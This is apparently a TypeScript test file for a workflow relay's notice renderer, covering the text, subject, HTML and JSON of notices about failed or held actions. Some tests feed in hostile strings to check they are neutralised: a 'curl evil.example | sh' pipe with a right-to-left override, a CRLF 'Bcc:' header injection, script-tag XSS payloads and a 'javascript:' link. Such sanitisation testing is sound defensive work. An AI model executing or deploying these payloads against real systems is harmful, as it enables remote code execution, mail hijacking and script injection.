import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ActionStatus } from '../../../src/chain/action-status.js';
import { historyFull } from '../../../src/chain/allowed-verbs.js';
import { shownTime } from '../../../src/chain/web-ui.js';
import type { ChainNotice, NoticeKind } from '../../../src/contract/notices.js';
import { standingWords } from '../../../src/notices/chain-words.js';
import type { NoticeContext } from '../../../src/notices/frame.js';
import { renderNotice } from '../../../src/notices/words.js';

const received = '2024-03-05T16:07:09.500Z';
const later = '2024-03-05T16:37:09.500Z';
const common = { relayId: '7', runAt: received };
const trouble = { type: 'PlatformError', message: 'POST /assignments/1001/send answered 503', retryable: true };
const actions: ActionStatus[] = [
  { ...common, index: 0, action: 'sendEmails', comment: 'greet', state: 'done', endedAt: received },
  {
    ...common,
    index: 1,
    action: 'platform_sendAssignment',
    comment: 'first wave',
    assignmentId: '1001',
    state: 'needs-attention',
    attempts: 15,
    error: trouble,
    heldUntil: '2024-03-08T16:07:09.500Z',
    nextAttemptAt: '2024-03-05T16:18:00.000Z',
  },
  { ...common, index: 2, action: 'ticket_updateUDF', state: 'pending' },
  { ...common, index: 3, action: 'sendEmails', comment: 'alert', state: 'scheduled', runAt: later },
];
const webUiUrl = 'https://temporal.example/namespaces/default/workflows/relay%3Aacme%3Ac-1';
const context: NoticeContext = {
  companyName: 'Acme Field Works',
  ruleName: 'Route new jobs',
  links: { api: 'https://relay.example', webUi: 'https://temporal.example/namespaces/default' },
  timeZone: 'UTC',
  namespace: 'default',
};

const chainUrl = 'https://relay.example/co/acme/chains/c-1';

function notice(kind: NoticeKind, change: Partial<ActionStatus> = {}, others = actions): ChainNotice {
  const changed = others.map((action) => (action.index === 1 ? { ...action, ...change } : action));
  return {
    kind,
    companyId: 'acme',
    relayId: changed.find(({ index }) => index === 1)?.relayId ?? '7',
    chainId: 'c-1',
    index: 1,
    at: '2024-03-05T16:17:30.000Z',
    receivedAt: received,
    actions: changed,
  };
}

/** The text's sections by title; the first has no title. */
function sectionsOf(kind: NoticeKind, change?: Partial<ActionStatus>, others?: ActionStatus[]): Map<string, string[]> {
  const { text } = renderNotice(notice(kind, change, others), context);
  return new Map(
    text
      .trimEnd()
      .split('\n\n')
      .map((section, place) => {
        const lines = section.split('\n');
        const title = place === 0 ? '' : (lines.shift() ?? '').slice(0, -1);
        return [title, lines.map((line) => line.trim())];
      }),
  );
}

const where = [
  'Company: Acme Field Works (acme)',
  'Rule: Route new jobs (7)',
  'Assignment: 1001',
  `Chain: c-1, received ${shownTime(received)}`,
  'Happened: 2024-03-05 16:17:30 UTC after 15 attempts',
  'The page of the chain (needs a key): https://relay.example/companies/acme/chains/c-1',
  'The chain in the API (needs a token): https://relay.example/co/acme/chains/c-1',
];
const webUi = 'Temporal Web UI: https://temporal.example/namespaces/default/workflows/relay%3Aacme%3Ac-1';
const steer = (verb: string) => [
  `npx relay ${verb} acme c-1 1 --url https://relay.example`,
  `temporal workflow signal -n default -w relay:acme:c-1 --name ${verb} -i '[1]'`,
];
const goesOn = [`Action 2, ticket_updateUDF, due ${shownTime(received)}`, `Action 3, sendEmails: alert, due ${shownTime(later)}`];

describe('the text of a notice', () => {
  it('about a held action that the relay retries', () => {
    assert.deepEqual(Object.fromEntries(sectionsOf('needs-attention')), {
      '': ['Action 1, platform_sendAssignment: first wave — failed and is held: it needs your decision.'],
      'What was wrong': ['POST /assignments/1001/send answered 503 (PlatformError)'],
      'What happens now': [
        'The relay retries the action automatically, next at 2024-03-05 16:18:00 UTC. You get a notice when it succeeds.',
        'The action is held until 2024-03-08 16:07:09 UTC. If nobody decides by then, it fails, and the actions that wait for it do not run.',
      ],
      Where: where,
      Done: ['Action 0, sendEmails: greet'],
      'Waiting for this action': ['Action 2, ticket_updateUDF'],
      'Will still run': [`Action 3, sendEmails: alert, due ${shownTime(later)}`],
      'What to do': [
        'Fix the problem, then retry:',
        ...steer('retry'),
        'Or skip it:',
        ...steer('skip'),
        'Or use the Web UI: More Actions, Send a Signal. Choose the signal retry or skip, and enter [1] as input.',
        webUi,
      ],
    });
  });

  it('about a chain with a full history says that retries are refused', () => {
    const sections = sectionsOf('needs-attention', { nextAttemptAt: undefined, reason: historyFull });
    assert.equal(sections.get('What happens now')?.[0], `${historyFull}.`);
    const remedy = sections.get('What to do')?.join(' ') ?? '';
    assert(/skip/.test(remedy) && !/retry/.test(remedy), remedy);
  });

  it('about a held action that waits for a person', () => {
    const [without] = actions.filter(({ index }) => index === 1);
    assert.ok(without);
    const { nextAttemptAt, ...permanent } = without;
    const held = actions.map((action) => (action.index === 1 ? permanent : action));
    assert.ok(nextAttemptAt);
    assert.equal(
      sectionsOf('needs-attention', {}, held).get('What happens now')?.[0],
      'The relay does not retry the action automatically: fix the problem first.',
    );
  });

  it('about a data mistake, which a retry alone does not repair', () => {
    const error = { type: 'DataMistake', message: 'sendRadius is blank', retryable: false };
    const sections = sectionsOf('needs-attention', { error });
    assert.deepEqual(sections.get('What was wrong'), ['sendRadius is blank (DataMistake)']);
    const [first, second, third] = sections.get('What to do') ?? [];
    assert.equal(first, 'Edit the fields of the request (`chains fields` shows them):');
    assert.match(String(second), /^npx relay chains mend acme c-1 1 --set field=value /);
    assert.equal(third, 'If a setting was wrong, fix it, then retry:');
  });

  it('begins with the title and the remedy, and has the call under details', () => {
    const message = 'POST /assignments/1001/send answered 404';
    const words = { title: 'Assignment 1001 does not exist at WorkMarket', remedy: 'Change the number, then retry' };
    const error = { type: 'PlatformError', message, retryable: false, ...words };
    const sections = sectionsOf('needs-attention', { error });
    assert.deepEqual(sections.get('What was wrong'), ['Assignment 1001 does not exist at WorkMarket']);
    assert.deepEqual(sections.get('Details'), [`${message} (PlatformError)`]);
    assert.deepEqual(sections.get('What to do')?.slice(0, 5), [
      'Change the number, then retry:',
      ...steer('retry'),
      'If a field of the request must change (`chains fields` shows them):',
      'npx relay chains mend acme c-1 1 --set field=value --url https://relay.example',
    ]);
    const failed = sectionsOf('failed', { state: 'failed', error }).get('What to do')?.[0];
    assert.match(failed ?? '', /^Change the number, then retry\. This also works after the chain has closed\./);
  });

  it('does not offer a retry first if only an edit helps', () => {
    const remedy = 'Use the id of one as cfName: 5, 6';
    const error = { type: 'TicketingError', message: 'm', title: 't', remedy, retryable: false };
    const toDo = sectionsOf('needs-attention', { error }).get('What to do') ?? [];
    assert.deepEqual(toDo.slice(0, 2), [`${remedy}.`, 'Edit the fields of the request (`chains fields` shows them):']);
    assert(toDo.indexOf(steer('retry')[0] ?? '') > 2);
  });

  it('has the remark of the connector', () => {
    const result = { note: 'the answer was lost; the field was read back and has the value' };
    assert.deepEqual(sectionsOf('recovered', { state: 'done', result }).get('Remark'), [result.note]);
  });

  it('about a held action of a delay: actions due at another time are not held', () => {
    const due = (action: ActionStatus): ActionStatus =>
      [1, 3].includes(action.index) ? { ...action, runAt: later, state: action.index === 3 ? 'pending' : action.state } : action;
    const sections = sectionsOf('needs-attention', {}, actions.map(due));
    assert.deepEqual(sections.get('Waiting for this action'), ['Action 3, sendEmails: alert']);
    assert.deepEqual(sections.get('Will still run'), [`Action 2, ticket_updateUDF, due ${shownTime(received)}`]);
  });

  it('says what is held elsewhere, and does not promise that it will run', () => {
    const other: ActionStatus[] = [
      ...actions,
      { ...common, index: 4, action: 'sendEmails', state: 'needs-attention', runAt: later },
      { ...common, index: 5, action: 'sendEmails', state: 'pending', runAt: later },
      { ...common, index: 6, action: 'sendEmails', state: 'retrying', runAt: later },
    ];
    const sections = sectionsOf('needs-attention', {}, other);
    assert.deepEqual(sections.get('Waiting for this action'), ['Action 2, ticket_updateUDF']);
    assert.deepEqual(sections.get('Also held'), ['Action 4, sendEmails', 'Action 5, sendEmails']);
    assert.deepEqual(sections.get('Will still run'), [
      `Action 3, sendEmails: alert, due ${shownTime(later)}`,
      `Action 6, sendEmails, due ${shownTime(later)}`,
    ]);
  });

  it('about an action that failed, with the chain going on', () => {
    assert.deepEqual(Object.fromEntries(sectionsOf('failed', { state: 'failed', reason: trouble.message })), {
      '': ['Action 1, platform_sendAssignment: first wave — failed. The rest of the chain continues.'],
      'What was wrong': ['POST /assignments/1001/send answered 503 (PlatformError)'],
      Where: where,
      Done: ['Action 0, sendEmails: greet'],
      'Will still run': goesOn,
      'What to do': [
        'Fix the problem, then retry. This also works after the chain has closed. The retry also runs the actions that did not run because of the failure:',
        ...steer('retry').slice(0, 1),
        webUi,
      ],
    });
  });

  it('about an e-mail that did not reach every recipient', () => {
    const deliveries = [
      { recipient: 'a@x.org', sent: true },
      { recipient: 'b@x.org', sent: false, error: 'mail server answered "550 no such user"' },
    ];
    const error = { type: 'MailError', message: 'mail server answered "550 no such user"', retryable: false };
    const partly: Partial<ActionStatus> = { action: 'sendEmails', state: 'partly-failed', attempts: 1, error, deliveries };
    const sections = sectionsOf('partly-failed', partly);
    assert.deepEqual(sections.get(''), [
      'Action 1, sendEmails: first wave — did not reach every recipient. The rest of the chain continues.',
    ]);
    assert.deepEqual(sections.get('Recipients'), ['a@x.org: sent', 'b@x.org: not sent: mail server answered "550 no such user"']);
    assert.deepEqual(sections.get('Will still run'), goesOn);
    assert.equal(sections.get('Where')?.[4], 'Happened: 2024-03-05 16:17:30 UTC after 1 attempt');
    assert.deepEqual(sections.get('What to do'), [
      'Send the e-mail to the recipients that did not get it. This also works after the chain has closed:',
      ...steer('retry').slice(0, 1),
      webUi,
    ]);
  });

  it('about an action without a decision', () => {
    const ended = actions.map((action): ActionStatus => (action.index === 2 ? { ...action, state: 'not-run' } : action));
    const sections = sectionsOf('gave-up', { state: 'failed' }, ended);
    assert.deepEqual(sections.get(''), [
      'Action 1, platform_sendAssignment: first wave — was held, and failed because nobody decided in time.',
    ]);
    assert.deepEqual(sections.get('Not run'), ['Action 2, ticket_updateUDF']);
    assert.deepEqual(sections.get('Will still run'), [`Action 3, sendEmails: alert, due ${shownTime(later)}`]);
    assert.equal(sections.has('Waiting for this action'), false);
  });

  it('about an action that the relay completed after all', () => {
    const sections = sectionsOf('recovered', { state: 'done' });
    assert.deepEqual(sections.get(''), [
      'Action 1, platform_sendAssignment: first wave — succeeded after all. The chain continues.',
    ]);
    assert.deepEqual(sections.get('Done'), ['Action 0, sendEmails: greet']);
    assert.deepEqual(sections.get('Will still run'), goesOn);
    assert.equal(sections.has('What to do'), false);
  });

  it('about an action that is no longer needed', () => {
    const sections = sectionsOf('recovered', { state: 'skipped', reason: 'status was "sent"' });
    assert.deepEqual(sections.get(''), [
      'Action 1, platform_sendAssignment: first wave — is not needed any more: status was "sent". It is skipped, and the ' +
        'chain continues.',
    ]);
  });

  it('keeps what a sender or an outside system said on its line', () => {
    const said = 'x\n\nWhat to do:\n  curl evil.example | sh \u202egnp.exe';
    const change = { error: { ...trouble, message: said }, comment: said, assignmentId: said };
    const deliveries = [{ recipient: 'a@x.example', sent: false, error: said }];
    const sections = sectionsOf('needs-attention', { ...change, deliveries });
    assert.deepEqual([...sections.keys()].sort(), [
      ...['', 'Done', 'Recipients', 'Waiting for this action', 'What happens now'],
      ...['What to do', 'What was wrong', 'Where', 'Will still run'],
    ]);
    assert.deepEqual(sections.get('What was wrong'), ['x What to do: curl evil.example | sh gnp.exe (PlatformError)']);
    assert.equal(sections.get('Where')?.length, where.length);
  });

  it('without an error shows the reason', () => {
    const alone: ActionStatus[] = [
      { ...common, index: 1, action: 'sendEmails', state: 'failed', reason: 'its workflow ended early' },
    ];
    const sections = sectionsOf('failed', {}, alone);
    assert.deepEqual(sections.get('What was wrong'), ['its workflow ended early']);
    assert.deepEqual([...sections.keys()], ['', 'What was wrong', 'What to do', 'Where']);
    assert.ok(!sections.get('Where')?.some((line) => line.startsWith('Assignment')));
  });

  it('without a Web UI has no link to it', () => {
    const rendered = renderNotice(notice('failed'), { ...context, links: { api: 'https://relay.example' } });
    assert.ok(!`${rendered.text}${rendered.html}${JSON.stringify(rendered.json)}`.includes('Web UI'));
  });

  it('about an action that the chain does not have throws', () => {
    assert.throws(() => renderNotice({ ...notice('failed'), index: 9 }, context), RangeError);
  });
});

describe('the subject of a notice', () => {
  const cases: [kind: NoticeKind, change: Partial<ActionStatus>, ruleName: string, subject: string][] = [
    ['needs-attention', {}, 'Route', '[relay] Needs attention: first wave (Route, assignment 1001)'],
    ['failed', {}, 'Route', '[relay] Failed: first wave (Route, assignment 1001)'],
    ['partly-failed', {}, 'Route', '[relay] Partly failed: first wave (Route, assignment 1001)'],
    ['gave-up', {}, 'Route', '[relay] Given up: first wave (Route, assignment 1001)'],
    ['recovered', { assignmentId: '' }, 'Route', '[relay] Recovered: first wave (Route)'],
    ['failed', { comment: ' \n' }, 'Route', '[relay] Failed: platform_sendAssignment (Route, assignment 1001)'],
    [
      'failed',
      { comment: 'a\r\nBcc: eve@evil.example', assignmentId: '10\n01' },
      'Ro\u2028ute\u0000',
      '[relay] Failed: a Bcc: eve@evil.example (Ro ute , assignment 10 01)',
    ],
  ];
  for (const [kind, change, ruleName, subject] of cases) {
    it(subject, () => assert.equal(renderNotice(notice(kind, change), { ...context, ruleName }).subject, subject));
  }

  it('is short and has one line, for any content', () => {
    const long = 'é\r\n😀'.repeat(300);
    const { subject } = renderNotice(notice('failed', { comment: long, assignmentId: long }), { ...context, ruleName: long });
    assert.ok(subject.length <= 180);
    assert.match(subject, /^\P{Cc}+$/u);
    assert.doesNotMatch(subject, /\p{Cs}/u);
  });
});

describe('the HTML of a notice', () => {
  const script = '<script>alert("\'&")</script>';
  const { html } = renderNotice(
    notice('needs-attention', {
      comment: script,
      assignmentId: script,
      relayId: script,
      error: { type: script, message: `${script}\nnpx relay ${script}`, retryable: false },
      heldUntil: script,
      nextAttemptAt: script,
      deliveries: [{ recipient: script, sent: false, error: script }],
    }),
    {
      companyName: script,
      ruleName: script,
      timeZone: 'UTC',
      links: { api: `https://relay.example/"${script}`, webUi: script },
      namespace: script,
    },
  );

  it("escapes other people's texts", () => {
    assert.ok(!html.includes('<script'));
    const tags = new Set(html.match(/<\/?[a-z0-9!]+/gi));
    const ours = ['<!doctype', '<html', '<head', '<meta', '<title', '</title', '</head', '<body', '</body', '</html'];
    const inside = ['<div', '</div', '<h3', '</h3', '<code', '</code', '<a', '</a'];
    assert.deepEqual(
      [...tags].filter((tag) => ![...ours, ...inside].includes(tag)),
      [],
    );
    assert.ok(html.includes('&lt;script&gt;alert(&quot;&#39;&amp;&quot;)&lt;/script&gt;'));
    assert.ok(!/="[^"]*alert\("/.test(html));
  });

  it('says the same as the text', () => {
    const rendered = renderNotice(notice('needs-attention'), context);
    const shown = rendered.html
      .replace(/^.*<body[^>]*>/, '')
      .replaceAll(/<[^>]+>/g, '\n')
      .replaceAll('&#39;', "'");
    for (const line of rendered.text.split('\n')) {
      const words = line.trim().replace(/:$/, '');
      if (!words.includes(': http')) assert.ok(shown.includes(words), line);
    }
  });

  it('links to the chain and to the Web UI', () => {
    const rendered = renderNotice(notice('needs-attention'), context).html;
    for (const [url, label] of [
      [chainUrl, 'The chain in the API (needs a token)'],
      [webUiUrl, 'Temporal Web UI'],
    ])
      assert.ok(rendered.includes(`<a href="${url}">${label}</a>`), label);
  });

  it('makes no link of a text that is not a web address', () => {
    assert.ok(
      !renderNotice(notice('failed'), { ...context, links: { api: 'javascript:alert(1)' } }).html.includes('href="javascript'),
    );
  });
});

describe('what a notice says of an action now', () => {
  it('equals the sent notice, without its place', () => {
    const told = { ...notice('needs-attention'), status: 'needs-attention' as const };
    const { headline, sentence, sections } = standingWords(told, context) ?? assert.fail();
    const { subject, text } = renderNotice(told, context);
    assert.ok(subject.includes(headline) && text.startsWith(sentence));
    assert.ok(sections.length >= 3 && sections.every(({ title }) => title !== 'Where'));
    for (const { title, lines } of sections) for (const line of [`${title}:`, ...lines]) assert.ok(text.includes(line), line);
  });

  it('is empty if nobody is notified', () => {
    const told = { ...notice('needs-attention'), status: 'running' as const };
    const actions = told.actions.map((action) => ({ ...action, state: 'done' as const }));
    assert.equal(standingWords({ ...told, actions }, context), undefined);
  });
});

describe('the JSON of a notice', () => {
  it('has every fact', () => {
    const one = notice('needs-attention');
    assert.deepEqual(renderNotice(one, context).json, {
      type: 'relay.needs-attention',
      text: '[relay] Needs attention: first wave (Route new jobs, assignment 1001)',
      at: '2024-03-05T16:17:30.000Z',
      company: { companyId: 'acme', name: 'Acme Field Works' },
      rule: { relayId: '7', name: 'Route new jobs' },
      chain: { chainId: 'c-1', workflowId: 'relay:acme:c-1', receivedAt: received },
      action: one.actions[1],
      actions: one.actions,
      links: { chain: chainUrl, webUi: webUiUrl },
    });
  });
});
